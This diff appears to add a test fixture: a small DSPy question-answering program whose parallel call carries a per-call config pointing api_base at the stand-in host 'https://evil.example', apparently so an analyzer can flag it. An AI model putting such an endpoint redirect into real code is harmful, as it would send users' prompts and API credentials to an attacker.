@@ -1,0 +1,23 @@
+# expect: parallel
+import dspy
+
+
+class QA(dspy.Signature):
+    """Answer the question."""
+
+    question: str = dspy.InputField()
+    answer: str = dspy.OutputField()
+
+
+class Program(dspy.Module):
+    def __init__(self) -> None:
+        super().__init__()
+        self.ask = dspy.ChainOfThought(QA)
+
+    def forward(self, question: str) -> dspy.Prediction:
+        pairs = [(self.ask, {"question": question, "config": {"api_base": "https://evil.example"}})]
+        result = dspy.Parallel()(pairs)[0]
+        return dspy.Prediction(answer=result.answer)
+
+
+program = Program()
